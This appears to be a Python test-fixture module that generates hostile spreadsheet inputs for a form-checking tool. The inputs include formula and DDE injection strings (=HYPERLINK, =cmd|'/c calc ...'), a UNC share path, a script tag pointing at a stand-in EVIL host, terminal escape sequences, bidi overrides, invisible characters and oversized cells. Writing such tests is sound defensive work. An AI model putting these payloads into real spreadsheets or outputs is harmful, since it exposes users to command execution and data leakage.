"""Texts that would be something else elsewhere: formulas, terminal commands, markup; and texts without end."""

from __future__ import annotations

from collections.abc import Callable
from functools import partial
from pathlib import Path
from xml.sax.saxutils import quoteattr

from tests.hostile.archive import save
from tests.hostile.evil import EVIL
from tests.hostile.form import (
    ACTUAL,
    INDICATORS,
    NAME,
    REASON,
    TARGET,
    WORKBOOK,
    Grid,
    Parts,
    book,
    grid,
    workbook,
)
from tests.hostile.registry import enter, kind, saved

LONGEST = 32_767
FIELDS = [
    (2, 1),
    (3, 1),
    (3, 3),
    (10, 1),
    (10, 5),
]  # project, department, unit, what was meant, what was done


def filled(change: Callable[[str], str]) -> Parts:
    """Every text that a person writes is changed; a wrong score makes the check speak of each."""
    lines = grid()
    places = [*FIELDS, *((row, x) for row in INDICATORS for x in (NAME, TARGET, ACTUAL, REASON))]
    for row, x in places:
        lines[row][x] = change(lines[row][x])
    for row in INDICATORS:
        lines[row][7] = "3"
    return book(lines)


def before(prefix: str) -> Callable[[], Parts]:
    return partial(filled, lambda text: prefix + text)


FORMULAS = {
    "formula-text-equals": f'=HYPERLINK("http://{EVIL}/","点")',
    "formula-text-command": f"=cmd|'/c calc {EVIL}'!A1",
    "formula-text-plus": f"+{EVIL}+1",
    "formula-text-minus": f"-1+{EVIL}",
    "formula-text-at": f"@SUM({EVIL})",
    "formula-text-after-a-tab": f"\t=1+{EVIL}",
    "formula-text-after-a-line": f"\r\n=1+{EVIL}",
    "formula-text-in-full-width": f"＝1＋{EVIL}",
    "formula-text-with-quotes": f'"&{EVIL}()&"',
    "formula-text-as-a-link": f"http://{EVIL}/?a='\"<>",
    "formula-text-as-a-share": f"\\\\{EVIL}\\share\\a.xlsx",
    "formula-text-as-markup": f"</t></is></c><c><f>{EVIL}</f></c>",
}
CONTROLS = {
    "control-escape": "_x001B_[31m红_x001B_]0;题目_x0007_",
    "control-osc-8-link": f"_x001B_]8;;http://{EVIL}_x001B_\\点_x001B_]8;;_x001B_\\",
    "control-c1-csi": "\u009b31m红\u009b0m",
    "control-c1-osc": "\u009d0;题目\u009c",
    "control-bidi-override": "\u202e建设角书图\u202c",
    "control-bidi-isolates": "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "control-bell-and-backspace": "_x0007__x0008__x007F_",
    "control-carriage-return": "好_x000D_坏",
    "control-nul": "_x0000_",
    "control-lone-surrogate": "_xD800_",
    "control-surrogates-in-escapes": "_xD83D__xDE00_",
    "control-noncharacter": "_xFFFE__xFFFF_",
    "control-line-separators": "\u2028\u2029\u0085",
    "control-escaped-escape": "_x005F_x001B_[31m",
}
INVISIBLE = {
    "invisible-zero-width": "\u200b",
    "invisible-byte-order-mark": "\ufeff",
    "invisible-soft-hyphen": "\u00ad",
    "invisible-no-break-space": "\u00a0",
    "invisible-variation": "\ufe0f",
    "invisible-tags": "\U000e0041\U000e007f",
    "invisible-filler": "\u3164",
    "invisible-private": "\ue000\U0010fffd",
}
MARKUP = {
    "markup-of-the-console": "[red]红[/red]",
    "markup-of-the-console-unbalanced": "[/]",
    "markup-of-the-console-link": f"[link=http://{EVIL}]点[/link]",
    "markup-of-the-console-escaped": "\\[bold]\\",
    "markup-of-html": f"<script src='http://{EVIL}'></script>&amp;",
    "markup-of-percent": "%s%n%(x)s{0}{x!r}${HOME}",
    "text-with-combining-marks": "e" + "\u0301" * 1_000,
    "text-of-emoji": "👩‍👩‍👧‍👦🏳️‍🌈",
    "text-beyond-the-plane": "𠮷𡈽𪚥",
}
for name, prefix in (FORMULAS | CONTROLS | MARKUP).items():
    enter(name, saved(before(prefix)))
for name in ("control-escape", "control-c1-csi", "control-bidi-override", "control-lone-surrogate"):
    enter(f"{name}-as-json", saved(before(CONTROLS[name])))
for name, mark in INVISIBLE.items():
    enter(name, saved(partial(filled, mark.join)))


@kind
def invisible_in_every_label(path: Path) -> None:
    """Zero-width characters inside the labels too: the form is still a form."""
    save(
        path,
        book(
            [
                ["\u200b".join(text) if not text.replace(".", "").isdecimal() else text for text in line]
                for line in grid()
            ]
        ),
    )


@kind
def formula_text_in_every_field(path: Path) -> None:
    save(path, filled(lambda text: f"=cmd|'/c {EVIL}'!{text}"))


@kind
def formula_text_alone_in_every_field(path: Path) -> None:
    save(path, filled(lambda _: f'=HYPERLINK("http://{EVIL}")'))


def long(text: str) -> str:
    return (text * LONGEST)[:LONGEST]


LONG = {
    "long-of-one-character": "好",
    "long-of-digits": "1",
    "long-of-chinese-numerals": "一",
    "long-of-dots": "1.",
    "long-of-commas": "1,",
    "long-of-spaces": " ",
    "long-of-signs": "≥",
    "long-of-brackets": "（",
    "long-of-percents": "1%",
    "long-of-ranges": "1-",
    "long-of-dates": "2024年1月",
    "long-of-clauses": "按期完成，",
    "long-of-sentences": "完成率98%，扣2分。",
    "long-of-scoring": "每低1%扣1分；",
    "long-of-numbered-points": "1、完成20个。",
    "long-of-quotes": "“",
    "long-of-lines": "完成\n",
    "long-of-units": "20个30万元",
    "long-of-denials": "不",
}


def long_texts(unit: str) -> Parts:
    """What was done, one target, one actual and one reason are as long as a cell can hold."""
    lines = grid()
    first = INDICATORS.start
    for row, x in ((10, 5), (first, TARGET), (first, ACTUAL), (first, REASON)):
        lines[row][x] = long(unit)
    lines[first][7] = "15"
    return book(lines)


for name, unit in LONG.items():
    enter(name, saved(partial(long_texts, unit)))


@kind
def long_in_every_field(path: Path) -> None:
    save(path, filled(lambda text: long(f"{text}，完成率98.5%。")))


@kind
def long_beyond_what_a_cell_holds(path: Path) -> None:
    save(path, filled(lambda text: text * 30_000))


@kind
def long_reasons_of_500_indicators(path: Path) -> None:
    lines = grid()
    row = ["", "", *lines[INDICATORS.start][2:REASON], ""]
    more: Grid = [
        [*row[:NAME], f"建成图书角数量{n}", *row[TARGET:REASON], f"因第{n}个图书角" * 200] for n in range(500)
    ]
    save(path, book([*lines[: INDICATORS.start + 1], *more, *lines[INDICATORS.start + 1 :]]))


def sheet_named(name: str, path: Path) -> None:
    """A form with findings, so that there are links to its sheet."""
    parts = filled(str)
    parts[WORKBOOK] = workbook("自评表", "说明").replace('name="自评表"', f"name={quoteattr(name)}")
    save(path, parts)


for name, title in {
    "sheet-name-formula": "=1+1",
    "sheet-name-with-quotes": "甲'乙''",
    "sheet-name-with-markup": '[red]&<>"',
    "sheet-name-with-a-command": f'\'!A1","x")&HYPERLINK("http://{EVIL}',
    "sheet-name-empty": "",
    "sheet-name-of-1-000-characters": "表" * 1_000,
    "sheet-name-with-escapes": "_x001B_[31m\u202e\u009b",
    "sheet-name-of-slashes": "../../a:b?*",
    "sheet-name-history": "History",
    "sheet-name-emoji": "😀表",
}.items():
    enter(name, partial(sheet_named, title))


@kind
def sheet_name_of_the_result(path: Path) -> None:
    """The person has a sheet 核查结果 of their own."""
    save(path, book() | {WORKBOOK: workbook("自评表", "核查结果")})


@kind
def note_text_is_a_formula(path: Path) -> None:
    text = f'=HYPERLINK("http://{EVIL}")'
    lines = grid()
    lines.append([text, "", "", "", "", "", "", "", ""])
    save(path, book(lines))
